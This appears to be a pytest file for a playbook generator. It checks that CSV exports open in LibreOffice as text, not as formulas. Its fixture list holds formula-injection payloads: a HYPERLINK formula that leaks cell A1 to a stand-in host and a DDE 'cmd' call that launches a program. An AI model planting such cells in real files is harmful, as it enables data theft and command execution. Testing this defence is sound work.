"""CSV exports open in a real spreadsheet (LibreOffice, formulas evaluated on import) as text, never as formulas."""

from __future__ import annotations

import csv
import json
import subprocess
import sys

import openpyxl
import pytest

from playbook_gen.export.csv_export import COLUMNS, checklist_rows, inert, to_csv
from playbook_gen.pipeline import check

from .conftest import require_tool, run_cli, write

# Cells an attacker would like a spreadsheet to evaluate: arithmetic, a link, a DDE call, functions.
FORMULAS = ["=1+2", '=HYPERLINK("https://example.invalid/?leak="&A1,"Click for details")', "+1+2", "-1+2",
            "@SUM(1,2)", "=cmd|' /C calc'!A0", "\t=1+2", "\r=1+2"]
# LibreOffice's CSV import: comma, double quote, UTF-8, from line 1, standard cells, default language,
# quoted fields not forced to text, special numbers detected, then (token 13) evaluate formulas: the dangerous setting.
EVALUATE_FORMULAS = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
# Each cell as the spreadsheet shows it: the author's text after our quote (a line break in a cell reads as LF).
SHOWN = [f"'{v}".replace("\r", "\n") for v in FORMULAS]


def spreadsheet(csv_path, tmp_path) -> list[list[openpyxl.cell.Cell]]:
    """The CSV as LibreOffice reads it (converted to xlsx headless), its cells as openpyxl sees them."""
    soffice = require_tool("soffice")
    out = tmp_path / "xlsx"
    subprocess.run([soffice, "--headless", f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}",
                    f"--infilter={EVALUATE_FORMULAS}", "--convert-to", "xlsx", "--outdir", str(out), str(csv_path)],
                   check=True, capture_output=True, timeout=180)
    return [list(row) for row in openpyxl.load_workbook(out / f"{csv_path.stem}.xlsx").active.iter_rows()]


@pytest.fixture
def hostile(mini):
    """The small playbook with a checklist whose title, pause point and items look like formulas."""
    items = "".join(f"  - text: {json.dumps(value)}\n    owner: alliance-manager\n" for value in FORMULAS)  # JSON is YAML
    write(mini, "content/checklists/formulas.yml", f"""id: formulas
title: '=1+2'
stage: launch
owner: alliance-manager
pause_point: '@SUM(1,2)'
mode: READ-DO
items:
{items}""")
    return mini


def test_the_fixture_really_holds_the_formulas(hostile):
    content = check(hostile).loaded.content
    assert [i.text for i in content.checklists["formulas"].items] == FORMULAS


def test_inert_prefixes_exactly_what_could_start_a_formula():
    assert [inert(v) for v in FORMULAS] == [f"'{v}" for v in FORMULAS]
    assert [inert(v) for v in ["1+2", "a=b", " =1", "", "'=1", "Budget approved"]] == [
        "1+2", "a=b", " =1", "", "'=1", "Budget approved"]


def test_csv_export_opens_as_text_in_a_spreadsheet(hostile, tmp_path):
    result = subprocess.run([sys.executable, "-m", "playbook_gen", "export", "--format", "csv"], cwd=hostile,
                            capture_output=True, timeout=120)  # bytes: a carriage return in a cell stays one
    assert result.returncode == 0, result.stderr
    path = tmp_path / "checklists.csv"
    path.write_bytes(result.stdout)
    cells = spreadsheet(path, tmp_path)
    assert not [c.coordinate for row in cells for c in row if c.data_type == "f"]
    header = [c.value for c in cells[0]]
    mine = [{k: c.value for k, c in zip(header, row)} for row in cells[1:] if row[0].value == "formulas"]
    assert [r["text"] for r in mine] == SHOWN
    assert {(r["checklist_title"], r["pause_point"]) for r in mine} == {("'=1+2", "'@SUM(1,2)")}


def test_checklist_run_csv_opens_as_text_in_a_spreadsheet(hostile, tmp_path):
    out = tmp_path / "runs"
    result = run_cli("run", "formulas", "--start", "2026-05-04", "--out", str(out), cwd=hostile)
    assert result.returncode == 0, result.stderr
    cells = spreadsheet(out / "formulas-2026-05-04.csv", tmp_path)
    assert not [c.coordinate for row in cells for c in row if c.data_type == "f"]
    column = [c.value for c in cells[0]].index("text")
    assert [row[column].value for row in cells[1:]] == SHOWN


def test_without_neutralising_the_same_rows_open_as_formulas(hostile, tmp_path):
    """The control: the rows written as raw CSV do run as formulas in the same spreadsheet, so the tests above
    would fail without `inert`."""
    rows = checklist_rows(check(hostile).loaded.content)
    path = tmp_path / "raw.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=COLUMNS)
        writer.writeheader()
        writer.writerows(rows)
    assert to_csv(rows, COLUMNS) != path.read_text(encoding="utf-8")
    cells = spreadsheet(path, tmp_path)
    formulas = {c.value for row in cells for c in row if c.data_type == "f"}
    assert {"=1+2", FORMULAS[1]} <= formulas
